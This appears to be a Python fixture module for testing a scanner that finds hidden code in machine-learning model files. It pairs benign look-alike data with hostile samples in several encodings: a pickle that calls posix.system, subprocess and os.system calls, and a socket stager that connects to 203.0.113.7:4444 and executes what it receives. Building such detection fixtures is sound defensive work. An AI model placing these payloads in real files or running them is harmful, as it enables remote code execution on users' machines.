"""Code to hide, in the encodings in which droppers carry it, and twins that carry nothing."""

from __future__ import annotations

import base64
import gzip
import json
import marshal
import pickle
import random
import struct
import zlib
from importlib.util import MAGIC_NUMBER
from typing import Callable

from assembly import EVIL

ELF = b"\x7fELF\2\1\1" + bytes(9) + b"\3\0\x3e\0\1\0\0\0" + bytes(28) + b"\x40\0\x38\0\x0b\0\x40\0\0\0\0\0"
PE = b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0\x64\x86" + bytes(18)
MACH_O = b"\xcf\xfa\xed\xfe\x0c\0\0\1\0\0\0\0\6\0\0\0\1\0\0\0\x28\0\0\0" + bytes(40)
WASM = b"\0asm\1\0\0\0\1\4\1\x60\0\0\3\2\1\0\x0a\4\1\2\0\x0b"
JAVA = base64.b64decode("yv66vgAAADQADQoAAgADBwAEDAAFAAYBABBqYXZhL2xhbmcvT2JqZWN0AQAGPGluaXQ+AQADKClW")
PYC = MAGIC_NUMBER + bytes(12) + marshal.dumps(compile("import os; os.getpid()", "x", "exec"))

#: What a system or a virtual machine runs, by the name of its format.
NATIVE = {"elf": ELF, "pe": PE, "mach-o": MACH_O, "wasm": WASM, "java-class": JAVA, "pyc": PYC}

#: What is hidden in texts, and the rules of which one reports it.
PAYLOADS: dict[str, tuple[bytes, frozenset[str]]] = {
    "pickle": (EVIL, frozenset({"PKL101"})),
    "pickle, protocol 0": (b"cposix\nsystem\n(S'echo pwned'\ntR.", frozenset({"PKL101"})),
    "processes": (b"import subprocess\nsubprocess.run(['sh', '-c', 'id'])\n", frozenset({"PAY122"})),
    "network": (
        b"import socket\ns = socket.create_connection(('203.0.113.7', 4444))\nexec(s.recv(4096))\n",
        frozenset({"PAY122"}),
    ),
    # Keras has a rule of its own for code that it would run.
    "marshal": (marshal.dumps(compile("import os; os.system('id')", "x", "exec")), frozenset({"PAY121", "KER103"})),
    "elf": (ELF, frozenset({"PAY121"})),
    "pe": (PE, frozenset({"PAY121"})),
    "mach-o": (MACH_O, frozenset({"PAY121"})),
}


def _text(data: bytes) -> str:
    return base64.b64encode(data).decode()


ENCODINGS: dict[str, Callable[[bytes], str]] = {
    "base64": _text,
    "base64 in lines": lambda data: base64.encodebytes(data).decode(),
    "base64 for addresses": lambda data: base64.urlsafe_b64encode(data).decode().rstrip("="),
    "base32": lambda data: base64.b32encode(data).decode(),
    "hexadecimal": lambda data: data.hex(),
    "hexadecimal of zlib": lambda data: zlib.compress(data).hex(),
    "base64 of zlib": lambda data: _text(zlib.compress(data)),
    "base64 of gzip": lambda data: _text(gzip.compress(data)),
    "base64 twice": lambda data: _text(_text(data).encode()),
    "base64 of zlib twice": lambda data: _text(zlib.compress(_text(zlib.compress(data)).encode())),
}


def twins(seed: int) -> dict[str, bytes]:
    """Data that stands in an encoding where models are, and runs nothing."""
    generator = random.Random(seed)
    return {
        "random": generator.randbytes(500),
        "floats": struct.pack("<100f", *(generator.gauss(0, 0.02) for _ in range(100))),
        "a picture": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\2\0\0\0" + generator.randbytes(400),
        "a photo": b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + generator.randbytes(400),
        "a digest": generator.randbytes(32),
        "JSON": json.dumps({"import": "os", "values": [generator.random() for _ in range(20)]}).encode(),
        "prose": b"The system runs a process and opens a connection; see os.system() for how not to do that. " * 3,
        "source": b"import math\n\ndef area(r):\n    return math.pi * r ** 2\n\nprint(area(2.0))\n",
        "a pickle": pickle.dumps({"mean": [0.5, 0.25], "name": "x"}, 2),
        "an array": b"\x93NUMPY\x01\0v\0{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }".ljust(127)
        + b"\n"
        + bytes(16),
        "magic numbers": b"MZ" + generator.randbytes(80),
    }
